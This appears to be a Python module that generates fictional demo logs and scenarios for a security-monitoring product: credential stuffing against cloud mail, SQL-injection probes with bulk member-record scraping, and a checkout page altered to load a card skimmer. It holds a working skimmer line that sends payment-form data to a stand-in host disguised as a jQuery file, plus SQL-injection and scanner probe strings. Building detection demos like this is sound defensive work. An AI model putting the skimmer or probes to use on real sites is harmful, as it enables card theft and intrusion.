"""Demo scenarios 8, 10 and 11 (MISSION.md): the SME's internet-facing services.

Three more tenants, each with its own scenario, added to the demo's ``manifest.json`` after
the main generator wrote it (``extend_manifest``), so the demo runner creates them, ingests
their files and checks the scenarios like the others:

 8. a ryokan's cloud mail (Microsoft 365): a credential-stuffing run against its Entra ID
    sign-ins from one address, then a successful sign-in to a real mailbox from there
    (Entra sign-in log, JSON lines);
10. a web shop: a scanner and SQL-injection probes, then one client fetching 1,500 member
    records through the vulnerable member page (Apache ``vhost_combined`` access log); its
    database server answers outside clients on MySQL (Zeek conn log);
11. a confectioner's web shop: its checkout page is registered with an approved script
    baseline, then a skimmer script is added; the check (``mimamori.webcheck``) run by
    ``after_ingest`` against a local web server opens a card-skimming incident, and the
    card company's notice opens an outside-notice incident.

Systems holding personal and card data are tagged (``data_scope``) so the incidents show
the Personal Information Protection Commission's duties. Everything is fictional: addresses
are in the benchmarking range 198.18.0.0/15 (customers and offices in 198.18/16, attackers in
198.19/16), never in the documentation ranges the main demo fills its intel feeds from, so
these attacks are found by behaviour alone; domains end in ``.example``.
"""

from __future__ import annotations

import json
import random
import threading
from datetime import UTC, datetime, timedelta
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from mimamori.db.models import Tenant
from mimamori.db.models_internet import DataScope
from mimamori.demo.generate import add_to_manifest

SCENARIO_KINDS = {8: "account_takeover", 10: "member_data_enumeration", 11: "card_skimming"}
SCENARIO_ALSO = {
    8: ["credential_stuffing", "impossible_travel", "legacy_auth_signin", "mailbox_rule"],
    10: ["web_attack", "web_scan", "web_shell", "exposed_service"],
    11: ["external_notice", "web_attack", "web_scan"],
}

TENANTS: list[dict[str, Any]] = [
    {
        "id": "hakusan-ryokan",
        "name": "白山温泉旅館",
        "name_en": "Hakusan Onsen Ryokan",
        "industry": "宿泊業",
        "contact_name": "白山 花子",
        "contact_email": "hanako.hakusan@hakusan-ryokan.example",
        "contact_phone": "076-000-0808",
        "email_domain": "hakusan-ryokan.example",
        "networks": ["192.168.81.0/24"],
        "sites": [
            {"name": "旅館", "name_en": "Inn", "address": "石川県白山市", "network": "192.168.81.0/24"}
        ],
        "service_level": "standard",
        "sources": ["entra_signin"],
    },
    {
        "id": "kaga-netshop",
        "name": "加賀ネットショップ",
        "name_en": "Kaga Net Shop",
        "industry": "通信販売",
        "contact_name": "加賀 太郎",
        "contact_email": "taro.kaga@kaga-netshop.example",
        "contact_phone": "0761-00-1010",
        "email_domain": "kaga-netshop.example",
        "networks": ["192.168.82.0/24"],
        "sites": [
            {"name": "事務所", "name_en": "Office", "address": "石川県加賀市", "network": "192.168.82.0/24"}
        ],
        "service_level": "premium",
        "sources": ["apache", "zeek"],
    },
    {
        "id": "noto-sweets",
        "name": "能登菓子工房",
        "name_en": "Noto Sweets",
        "industry": "菓子製造・通信販売",
        "contact_name": "能登 恵",
        "contact_email": "megumi.noto@noto-sweets.example",
        "contact_phone": "0768-00-1111",
        "email_domain": "noto-sweets.example",
        "networks": ["192.168.83.0/24"],
        "sites": [
            {"name": "工房", "name_en": "Workshop", "address": "石川県輪島市", "network": "192.168.83.0/24"}
        ],
        "service_level": "standard",
        "sources": ["apache"],
    },
]

SHOP = "shop.kaga-netshop.example"
SWEETS = "www.noto-sweets.example"
SHOP_DB = "192.168.82.10"
S8_ATTACKER = "198.19.23.5"
S10_ATTACKER = "198.19.77.7"
KANAZAWA = (36.5613, 136.6562)
AMSTERDAM = (52.3676, 4.9041)
UA = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SH-51E) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0 Mobile Safari/537.36",
]
CHECKOUT_PAGE = """<!doctype html>
<html lang="ja"><head><meta charset="utf-8"><title>ご注文手続き | 能登菓子工房</title>
<script src="/js/jquery-3.7.1.min.js"></script>
<script src="/js/checkout.js"></script>
<script>window.shop = {currency: "JPY", tax: 0.08};</script>
</head><body><form id="pay" action="/pay" method="post">
<input name="card_number"><input name="exp"><input name="cvc"><button>注文する</button>
</form></body></html>
"""
SKIMMER = '<script src="/js/jquery-migrate.min.js"></script>\n'
SKIMMER_JS = (
    "document.getElementById('pay').addEventListener('submit',function(){var d=new FormData(this);"
    "navigator.sendBeacon('https://cdn-jquery-stat.example/c',JSON.stringify(Object.fromEntries(d)))});"
)


def _ts(t: datetime) -> str:
    return t.astimezone(UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")


def _access(
    site: str, ip: str, t: datetime, method: str, target: str, status: int, size: int, ua: str
) -> str:
    return f'{site}:443 {ip} - - [{_ts(t)}] "{method} {target} HTTP/1.1" {status} {size} "-" "{ua}"'


def _signin(
    t: datetime,
    user: str,
    ip: str,
    code: int,
    geo: tuple[float, float],
    city: str,
    country: str,
    app: str = "Browser",
) -> str:
    return json.dumps(
        {
            "createdDateTime": t.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
            "userPrincipalName": user,
            "ipAddress": ip,
            "clientAppUsed": app,
            "appDisplayName": "Office 365 Exchange Online",
            "status": {"errorCode": code, "failureReason": "Invalid username or password." if code else None},
            "location": {
                "city": city,
                "countryOrRegion": country,
                "geoCoordinates": {"latitude": geo[0], "longitude": geo[1]},
            },
        },
        ensure_ascii=False,
    )


def _truth(
    number: int,
    tenant: str,
    titles: tuple[str, str],
    sources: list[str],
    hosts: list[str],
    stamps: list[datetime],
    by_file: dict[str, int],
    details: dict[str, Any],
) -> dict[str, Any]:
    title, title_en = titles
    return {
        "scenario": number,
        "expected_kind": SCENARIO_KINDS[number],
        "tenant": tenant,
        "title": title,
        "title_en": title_en,
        "sources": sources,
        "hosts": hosts,
        # no intel indicators: these attacks are found by behaviour, not by feeds
        "indicators": {"ips": [], "domains": [], "urls": [], "sha256": [], "emails": []},
        "details": details,
        "events": len(stamps),
        "events_by_file": by_file,
        "first_seen": min(stamps).isoformat() if stamps else None,
        "last_seen": max(stamps).isoformat() if stamps else None,
        "expected_incidents": 1,
        "also_expected": list(SCENARIO_ALSO[number]),
    }


def _zeek_conn(t: datetime, src: str, dst: str, port: int, n: int) -> str:
    return json.dumps(
        {
            "ts": round(t.timestamp(), 6),
            "uid": f"CiNet{n:06d}",
            "id.orig_h": src,
            "id.orig_p": 40000 + n,
            "id.resp_h": dst,
            "id.resp_p": port,
            "proto": "tcp",
            "service": "mysql" if port == 3306 else "ssl",
            "duration": 1.5,
            "orig_bytes": 420,
            "resp_bytes": 5300,
            "conn_state": "SF",
            "history": "ShADadFf",
            "orig_pkts": 9,
            "resp_pkts": 8,
        }
    )


def _write(root: Path, rel: str, lines: list[tuple[datetime, str]]) -> int:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    lines.sort(key=lambda x: x[0])
    path.write_text("".join(text + "\n" for _, text in lines), encoding="utf-8", newline="\n")
    return len(lines)


def _scenario8(
    root: Path, rng: random.Random, start: datetime, hours: int
) -> tuple[list[Any], dict[str, Any]]:
    tid = "hakusan-ryokan"
    domain = "hakusan-ryokan.example"
    staff = [
        f"{n}@{domain}" for n in ("okami", "frontdesk", "reservations", "kitchen", "accounts", "manager")
    ]
    office_ip = "198.18.200.81"
    lines: list[tuple[datetime, str]] = []
    for day_hour in range(hours):
        t = start + timedelta(hours=day_hour)
        if 7 <= (t.hour + 9) % 24 <= 21:  # JST working hours
            for user in rng.sample(staff, 3):
                at = t + timedelta(seconds=rng.uniform(0, 3500))
                code = 50126 if rng.random() < 0.05 else 0  # an occasional typo
                lines.append((at, _signin(at, user, office_ip, code, KANAZAWA, "Kanazawa", "JP")))
    # the attack: 70 attempts, a list of 50 addresses, from one host over 40 minutes
    t0 = start + timedelta(hours=hours - 6)
    tried = [
        *staff,
        *[f"{w}{i}@{domain}" for w in ("info", "sales", "admin", "hr", "yoyaku") for i in range(9)],
    ]
    stamps: list[datetime] = []
    for i in range(70):
        at = t0 + timedelta(seconds=35 * i)
        lines.append(
            (at, _signin(at, tried[i % len(tried)], S8_ATTACKER, 50126, AMSTERDAM, "Amsterdam", "NL"))
        )
        stamps.append(at)
    hit = t0 + timedelta(minutes=55)
    lines.append((hit, _signin(hit, "okami@" + domain, S8_ATTACKER, 0, AMSTERDAM, "Amsterdam", "NL")))
    stamps.append(hit)
    rel = f"{tid}/entra/signins.json"
    n = _write(root, rel, lines)
    files = [{"tenant": tid, "source": "entra_signin", "path": rel, "scenario": 8, "lines": n}]
    truth = _truth(
        8,
        tid,
        (
            "リスト型攻撃でクラウドメール（Microsoft 365）に不正ログインされた",
            "Credential stuffing against the inn's cloud mail, then a successful sign-in to a real mailbox",
        ),
        ["entra_signin"],
        [],
        stamps,
        {rel: len(stamps)},
        {"attacker": S8_ATTACKER, "accounts_tried": len(set(tried[:70])), "taken_over": "okami@" + domain},
    )
    return files, truth


def _shop_background(
    rng: random.Random, site: str, start: datetime, hours: int, visits: int
) -> list[tuple[datetime, str]]:
    lines = []
    for v in range(visits):
        ip = f"198.18.{rng.randrange(0, 4)}.{rng.randrange(1, 255)}"
        ua = rng.choice(UA)
        t = start + timedelta(seconds=rng.uniform(0, hours * 3600 - 600))
        member = rng.randrange(10_000, 260_000)
        for target in ("/", f"/item/{rng.randrange(1, 400)}", f"/item/{rng.randrange(1, 400)}", "/cart"):
            t += timedelta(seconds=rng.uniform(2, 40))
            lines.append((t, _access(site, ip, t, "GET", target, 200, rng.randrange(2000, 40000), ua)))
        if v % 3 == 0:  # a member logs in and looks at their own page
            t += timedelta(seconds=rng.uniform(5, 30))
            lines.append((t, _access(site, ip, t, "POST", "/member/login", 302, 0, ua)))
            t += timedelta(seconds=2)
            lines.append(
                (t, _access(site, ip, t, "GET", f"/mypage/member.php?member_id={member}", 200, 5200, ua))
            )
    return lines


def _scenario10(
    root: Path, rng: random.Random, start: datetime, hours: int
) -> tuple[list[Any], dict[str, Any]]:
    tid = "kaga-netshop"
    lines = _shop_background(rng, SHOP, start, hours, 400)
    stamps: list[datetime] = []
    t = start + timedelta(hours=hours - 8)
    scanner = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
    probes = ["/.env", "/phpmyadmin/", "/admin/", "/backup.zip", "/.git/config", "/server-status"]
    for p in probes:
        t += timedelta(seconds=1)
        lines.append((t, _access(SHOP, S10_ATTACKER, t, "GET", p, 404, 310, scanner)))
        stamps.append(t)
    sqli = [
        "/item.php?id=1%27",
        "/item.php?id=1%27%20OR%20%271%27=%271",
        "/item.php?id=1%20UNION%20SELECT%20NULL,NULL,NULL--",
        "/mypage/member.php?member_id=1%27%20AND%20SLEEP(5)--",
    ]
    browser = UA[0]
    for p in sqli:
        t += timedelta(seconds=3)
        lines.append((t, _access(SHOP, S10_ATTACKER, t, "GET", p, 500, 820, browser)))
        stamps.append(t)
    t += timedelta(minutes=10)
    first_id = 100_001
    for i in range(1500):  # the member lookup answers any id: 1,500 records in ~25 minutes
        t += timedelta(seconds=1)
        target = f"/mypage/member.php?member_id={first_id + i}"
        lines.append((t, _access(SHOP, S10_ATTACKER, t, "GET", target, 200, 5200, browser)))
        stamps.append(t)
    rel = f"{tid}/web/access.log"
    n = _write(root, rel, lines)
    files = [{"tenant": tid, "source": "apache", "path": rel, "scenario": 10, "lines": n}]
    # the shop's database server answers the internet on MySQL (it need not be public)
    conns: list[tuple[datetime, str]] = []
    for i in range(12):
        at = start + timedelta(hours=2 + i * 1.7, seconds=rng.uniform(0, 600))
        conns.append((at, _zeek_conn(at, f"198.19.{30 + i % 5}.{rng.randrange(1, 255)}", SHOP_DB, 3306, i)))
        stamps.append(at)
    for i in range(40):  # and the shop's ordinary outbound traffic
        at = start + timedelta(seconds=rng.uniform(0, hours * 3600 - 60))
        conns.append((at, _zeek_conn(at, "192.168.82.20", f"198.18.9.{rng.randrange(1, 255)}", 443, 100 + i)))
    rel_conn = f"{tid}/zeek/conn.log"
    n = _write(root, rel_conn, conns)
    files.append({"tenant": tid, "source": "zeek", "path": rel_conn, "scenario": 10, "lines": n})
    truth = _truth(
        10,
        tid,
        (
            "ネットショップの会員照会ページの脆弱性を突かれ、会員情報を大量に取得された",
            "A web shop's vulnerable member page was used to fetch member records in bulk",
        ),
        ["apache"],
        [SHOP],
        stamps,
        {rel: len(stamps) - 12, rel_conn: 12},
        {"attacker": S10_ATTACKER, "member_ids": 1500, "site": SHOP, "exposed": f"{SHOP_DB}:3306"},
    )
    return files, truth


def _scenario11(
    root: Path, rng: random.Random, start: datetime, hours: int
) -> tuple[list[Any], dict[str, Any]]:
    tid = "noto-sweets"
    www = root / tid / "www"
    (www / "js").mkdir(parents=True, exist_ok=True)
    (www / "checkout.html").write_text(CHECKOUT_PAGE, encoding="utf-8")
    (www / "js" / "jquery-3.7.1.min.js").write_text(
        "/*! jQuery v3.7.1 (demo stand-in) */\n", encoding="utf-8"
    )
    (www / "js" / "checkout.js").write_text("function total(){return 0;}\n", encoding="utf-8")
    lines = _shop_background(rng, SWEETS, start, hours, 120)
    rel = f"{tid}/web/access.log"
    n = _write(root, rel, lines)
    files = [{"tenant": tid, "source": "apache", "path": rel, "scenario": None, "lines": n}]
    at = start + timedelta(hours=hours - 3)
    truth = _truth(
        11,
        tid,
        (
            "決済ページが改ざんされ、カード情報を盗むスクリプトが追加された（カード会社からの連絡）",
            "The payment page was altered to load a card-skimming script (the card company called first)",
        ),
        ["webcheck"],
        [SWEETS],
        [at],
        {},
        {"page": "checkout.html", "skimmer": "/js/jquery-migrate.min.js", "cards_at_risk": 15_000},
    )
    return files, truth


def extend_manifest(out_dir: Path, *, seed: int, start: datetime, hours: int) -> None:
    """Add the three tenants, their files and scenarios to ``out_dir/manifest.json``."""
    rng = random.Random(f"internet-{seed}")
    add_to_manifest(
        out_dir, TENANTS, (_scenario8, _scenario10, _scenario11), rng=rng, start=start, hours=hours
    )


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


def after_ingest(engine: Any, out_dir: Path, now: datetime | None = None) -> None:
    """Tag the personal-data systems; run scenario 11's page check and the card company's call."""
    import httpx

    from mimamori.db.session import session_scope
    from mimamori.incidents.engine import open_manual
    from mimamori.webcheck import check_pages, register_page

    now = now or datetime.now(UTC)
    www = out_dir / "noto-sweets" / "www"
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(www)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{server.server_address[1]}/checkout.html"
    try:
        with httpx.Client(timeout=5.0, trust_env=False) as client:
            with session_scope(engine) as s:
                for tenant_id, system, name, card, persons in (
                    ("kaga-netshop", SHOP, "会員データベース（ネットショップ）", False, 250_000),
                    ("noto-sweets", url, "決済ページ", True, 15_000),
                    ("hakusan-ryokan", "okami@hakusan-ryokan.example", "女将のメールボックス", False, 800),
                ):
                    s.add(
                        DataScope(
                            tenant_id=tenant_id,
                            system=system,
                            name=name,
                            personal_data=True,
                            card_data=card,
                            persons=persons,
                        )
                    )
                register_page(
                    s, "noto-sweets", url, name="ご注文手続き", client=client, approved_by="demo",
                    now=now - timedelta(days=30),
                )  # fmt: skip
            page = (www / "checkout.html").read_text("utf-8")
            (www / "js" / "jquery-migrate.min.js").write_text(SKIMMER_JS, encoding="utf-8")
            (www / "checkout.html").write_text(page.replace("</head>", SKIMMER + "</head>"), encoding="utf-8")
            with session_scope(engine) as s:
                check_pages(s, "noto-sweets", client=client, now=now)
                tenant = s.get(Tenant, "noto-sweets")
                assert tenant is not None
                open_manual(
                    s,
                    tenant,
                    origin="notice",
                    kind="external_notice",
                    title="カード会社から、当店で利用されたカードの不正利用が多発しているとの連絡",
                    reporter="カード会社 不正利用検知担当",
                    actor="demo",
                    summary="The card company reports fraud on cards used at this shop (scenario 11).",
                    now=now,
                )
    finally:
        server.shutdown()
        server.server_close()


__all__ = ["SCENARIO_ALSO", "SCENARIO_KINDS", "TENANTS", "after_ingest", "extend_manifest"]
